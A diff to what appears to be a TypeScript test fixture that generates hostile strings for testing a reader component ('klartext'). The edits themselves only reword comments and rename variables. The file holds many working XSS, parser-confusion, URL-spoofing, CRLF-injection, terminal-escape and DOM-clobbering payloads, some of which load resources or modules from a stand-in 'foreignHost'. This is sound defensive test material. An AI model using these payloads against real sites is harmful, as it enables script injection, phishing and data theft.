@@ -1,11 +1,11 @@
-/** More families of hostile strings, after the published collections of mutation, namespace, address and text tricks. */
+/** Generates further families of hostile strings, after published collections of mutation, namespace, URL and text tricks. */
 import { foreignHost, run } from './canary.ts';
 
 const image = `<img src=x onerror=${run}>`;
 const svgDocument = `<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><script>${run}</script></svg>`;
 const base64 = (text: string): string => Buffer.from(text).toString('base64');
 
-/** Elements and attributes that load, send or run without an event's name in them. */
+/** Elements and attributes that load, send or run without an event handler. */
 const loading = [
   'link rel=stylesheet', 'link rel=icon', 'link rel=preload as=script', 'link rel=modulepreload', 'link rel=prerender', 'link rel=preconnect', 'link rel=dns-prefetch', 'link rel=manifest', 'link rel="alternate stylesheet"', 'base',
 ].map((tag) => `<${tag} href="https://${foreignHost}/l">`).concat([
@@ -22,14 +22,14 @@ const namespaces = [
   `<set attributeName=onmouseover to=${run} />`, `<animate attributeName=xlink:href begin=0 from="javascript:${run}" to=1 />`, `<discard onbegin=${run} />`, `<animatemotion onend=${run} dur=1ms />`, `<foreignObject><iframe srcdoc="${image}"></iframe></foreignObject>`, `<![CDATA[><${image}]]>`, `<p></p>${image}`, `<b></b><style><a title="</style>${image}">`,
 ].flatMap(vector);
 
-/** Texts that a parser reads differently the second time, or that end what they stand in. */
+/** Texts that parse differently the second time, or that close the element around them. */
 const reparsed = [
   `<!-->${image}-->`, `<!--->${image}-->`, `<!--!>${image}`, `<!--x--!>${image}`, `<?x ${image}?>`, `<%${image}%>`, `</ x ${image}`, `<![CDATA[${image}]]>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "https://${foreignHost}/dtd">]>&y;`,
   `<a title="</a>${image}">x</a>`, `<img alt="\`>${image}">`, `<img alt='">${image}'>`, `<table><tr><td><table>${image}`, `<table><a>1</a><td>${image}</table>`, `<select><option><style></option></select>${image}</style>`, `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
   `<form><form>${image}</form>`, `<form id=a></form><form id=b>${image}`, `<button><p>x</button><p>${image}`, `<a><a>${image}</a></a>`, `<nobr><nobr>${image}`, `<h1><h2>${image}`, `<ruby><rt><rp>${image}`, `<dl><dd><li>${image}`, `<noscript><style></noscript>${image}</style>`, `<textarea></textarea >${image}`,
   `<div><template shadowrootmode=open>${image}<slot></slot></template>x</div>`, `<div><template shadowrootmode=closed><script>${run}</script></template>x</div>`, `<xmp></xmp\t>${image}`, `<frameset><frame src="javascript:${run}">`, `<body background="javascript:${run}"><p>`, `<html onclick=${run}>`, `<head><style>.rich-text ~ *{display:none}</style>`,
   `<script type=importmap>{"imports":{"x":"https://${foreignHost}/m.js"}}</script>`, `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://${foreignHost}/"]}]}</script>`, `<meta http-equiv=refresh content="9999;url=https://${foreignHost}/">`, `<meta http-equiv=Content-Security-Policy content="img-src https://${foreignHost}">`,
-  `<meta http-equiv=set-cookie content="a=b">`, `<meta name=referrer content=unsafe-url>`, `<dialog open><form method=dialog>x</form></dialog>`, `<button popovertarget=p>x</button><p id=p popover>y`, `<button commandfor=p command=show-modal>x</button>`, `<p contenteditable autofocus onfocus=${run}>`, `<p is=x-y>`, `<klartext-reader>x</klartext-reader>`, `<klartext-veil></klartext-veil>`, `<style data-klartext>body{display:none}</style>`,
+  `<meta http-equiv=set-cookie content="a=b">`, `<meta name=referrer content=unsafe-url>`, `<dialog open><form method=dialog>x</form></dialog>`, `<button popovertarget=p>x</button><p id=p popover>y`, `<button commandfor=p command=show-modal>x</button>`, `<p contenteditable autofocus onfocus=${run}>`, `<p is=x-y>`, `<klartext-reader>x</klartext-reader>`, `<klartext-cover></klartext-cover>`, `<style data-klartext>body{display:none}</style>`,
   `${'<div>'.repeat(300)}${image}`, `${'<b>'.repeat(300)}x`, `${'<a href=/>'.repeat(60)}x`, `<p ${'a '.repeat(2000)}>`, `<p id="${'x'.repeat(20_000)}">`,
 ];
 
@@ -40,15 +40,15 @@ const spelled = ['<script>', '<img src=x onerror=', 'javascript:'].flatMap((text
 
 const oddSchemes = ['intent://x#Intent;scheme=javascript;end', 'view-source:https://www.dw.com/', 'ws://', 'wss://', 'ftp://', 'chrome://settings/', 'resource://gre/', 'moz-extension://x/', 'chrome-extension://x/', 'tel:', 'sms:', 'geo:', 'market://', 'itms-services://?url=', 'ms-settings:', 'search-ms:query=', 'vscode://', 'magnet:?', 'steam://', 'skype:x?call', 'ldap://', 'jdbc:', 'gopher://', 'dict://', 'res://', 'mk:@', 'shell:', 'urn:', 'cid:', 'wyciwyg://', 'android-app://', 'x:', 'javascript', 'data:application/xhtml+xml,', 'data:text/xml,', 'data:application/pdf,', 'data:,', 'data:;base64,', 'about:srcdoc', 'blob:https://www.dw.com/', 'filesystem:https://www.dw.com/temporary/']
   .flatMap((scheme) => [scheme, ` ${scheme.toUpperCase()}`, scheme.replace(':', '&colon;'), `\u0000${scheme}`].map((start) => `${start}${run}`));
-const dataAddresses = ['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'application/javascript', 'text/css'].flatMap((type) => [`data:${type};base64,${base64(svgDocument)}`, `data:${type};charset=utf-8,${encodeURIComponent(svgDocument)}`, `DATA:${type};x=",";base64 ,${base64(svgDocument)}`]);
+const dataUrls = ['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'application/javascript', 'text/css'].flatMap((type) => [`data:${type};base64,${base64(svgDocument)}`, `data:${type};charset=utf-8,${encodeURIComponent(svgDocument)}`, `DATA:${type};x=",";base64 ,${base64(svgDocument)}`]);
 const scripts = ['', '//', '/**/', '%0a', '%0d%0a', '\\u0061', '(', '`', "'", '"', '\u2028', '//%0a', '/*', '*/', '{', '[].', 'void(0);', 'throw ', 'import(', 'x:'].map((before) => `javascript:${before}${run}`);
 
-/** Addresses that seem to lead to one host and lead to another, or break out of what they are written into. */
+/** URLs that seem to lead to one host and lead to another, or that break out of the text around them. */
 const deceiving = [
   `https://www.dw.com@${foreignHost}/`, `https://www.dw.com%2f@${foreignHost}/`, `https://${foreignHost}\\@www.dw.com/`, `https://${foreignHost}#@www.dw.com/`, `https://${foreignHost}?www.dw.com`, `https:${foreignHost}`, `https:/${foreignHost}/`, `\\\\${foreignHost}\\x`, `/\\${foreignHost}`, `///${foreignHost}`, `//${foreignHost}%00.dw.com/`, `https://www.dw.com.${foreignHost}/`, `https://dw.com\u3002${foreignHost}/`, `https://dw\uff0ecom.${foreignHost}`, `https://www.d\u0461.com/`, `https://www.\u0501w.com/`, `https://xn--w-7tb.com/`, `https://www.dw.com:443@${foreignHost}`, `http://0x7f.1/`, `http://2130706433/`, `http://[::1]/`, `https://www.dw.com:99999/`, `https://www.dw.com\u2044login.${foreignHost}/`, `https://static.dw.com/x.jpg" onerror="${run}`, `https://static.dw.com/x.jpg' onerror='${run}`, `https://static.dw.com/x)[x](javascript:${run})`, `https://static.dw.com/x)![x](https://${foreignHost}/m.png)`, `https://static.dw.com/x> <img src=x onerror=${run}>`, `https://static.dw.com/x.jpg 1x, https://${foreignHost}/s.jpg 2x`, `https://static.dw.com/image/1_605.jpg,https://${foreignHost}/t.jpg`, `/image/1_605.jpg 1x,javascript:${run} 2x`, `https://static.dw.com/..//${foreignHost}/x.png`, `https://static.dw.com/%2e%2e/%2e%2e/x.png`, `mailto:a@b.example?body=${encodeURIComponent(image)}&attach=/etc/passwd`, `mailto:"><script>${run}</script>`, `https://www.dw.com/redirect?to=//${foreignHost}`, `https://${foreignHost}:443/`, `https://user:password@www.dw.com/`, `https://www.dw.com/#javascript:${run}`, `https://www.dw.com/en/x/a-1\r\nLocation: https://${foreignHost}`,
-].flatMap((address) => [address, address.toUpperCase(), ` ${address}\n`]);
+].flatMap((url) => [url, url.toUpperCase(), ` ${url}\n`]);
 
-/** Texts that mean something to Markdown, terminals, shells, spreadsheets, templates, file systems. */
+/** Texts that Markdown, terminals, shells, spreadsheets, templates or file systems interpret. */
 const texts = [
   `[x](javascript:${run})`, `[x](<javascript:${run}>)`, `[x]( javascript:${run} "t")`, `![x](https://${foreignHost}/m.png)`, `![x][r]\n\n[r]: https://${foreignHost}/r.png`, `[r]: javascript:${run}`, `<javascript:${run}>`, `<https://${foreignHost}/>`, `[^1]: ${image}`, `\`\`\`html\n${image}`, `~~~\n${image}`, `~~~~~~`, `\\`, `\\[x](javascript:${run})`, `*[x]*: ${run}`, `| a | b |\n| --- | --- |\n| ${image} | |`, `# x\n===\n---`, `> > > ${image}`, `    ${image}`, `{{< x >}}`, `{% raw %}`, `$$\\href{javascript:${run}}{x}$$`, `:::x\n${image}`, `---\nlayout: x\n---`, `...\n---\n!!js/function "${run}"`, `&#106;avascript:${run}`,
   '\u001b[2J\u001b[H', `\u001b]0;title\u0007`, `\u001b]8;;https://${foreignHost}/\u0007x\u001b]8;;\u0007`, '\u001b]52;c;Y2FuYXJ5\u0007', '\u001bP$q"p\u001b\\', '\u009b31m', '\u009d0;t\u009c', 'safe\rhidden', 'safe\b\b\b\bgone', '\u001b[8mhidden', '\u001bc', '\u000e\u000f', '\u007f\u007f',
@@ -58,8 +58,8 @@ const texts = [
 ];
 
 const clobbered = ['forms', 'cookie', 'title', 'URL', 'baseURI', 'defaultView', 'currentScript', 'activeElement', 'getElementById', 'getElementsByTagName', 'getElementsByClassName', 'createTreeWalker', 'createTextNode', 'createElementNS', 'createDocumentFragment', 'styleSheets', 'scrollingElement', 'fonts', 'adoptNode', 'importNode', 'getRootNode', 'nodeType', 'localName', 'innerText', 'innerHTML', 'outerHTML', 'matches', 'contains', 'style', 'dataset', 'hidden', 'hasAttribute', 'setAttribute', 'removeAttribute', 'firstElementChild', 'lastChild', 'nextSibling', 'nextElementSibling', 'previousElementSibling', 'parentElement', 'ownerDocument', 'isConnected', 'shadowRoot', 'attachShadow', 'replaceWith', 'replaceChildren', 'before', 'after', 'insertBefore', 'removeChild', 'appendChild', 'addEventListener', 'dispatchEvent', 'checkVisibility', 'getBoundingClientRect', 'className', 'classList', 'id', 'name', 'type', 'href', 'src', 'lang', 'dir', 'hasChildNodes', 'compareDocumentPosition', 'normalize', 'nodeValue', 'data', 'toString', 'valueOf', 'then', 'browser', 'chrome', 'klartextReader', 'klartextBase', 'klartextView', 'klartextFiles', 'klartextDetector']
-  // Not closed: what follows stands in the form, whose own names are hidden.
+  // Not closed: the following content is in the form and hides its own properties.
   .flatMap((name) => [`<form><input name=${name}>`, `<form id=${name}><output name=childNodes>`, `<object id=${name}>x</object>`, `<embed name=${name}><img name=${name} id=body>`]);
 
 /** Every payload of these families. */
-export const moreFamilies: readonly string[] = [...loading, ...namespaces, ...reparsed, ...spelled, ...oddSchemes, ...dataAddresses, ...scripts, ...deceiving, ...texts, ...clobbered];
+export const moreFamilies: readonly string[] = [...loading, ...namespaces, ...reparsed, ...spelled, ...oddSchemes, ...dataUrls, ...scripts, ...deceiving, ...texts, ...clobbered];
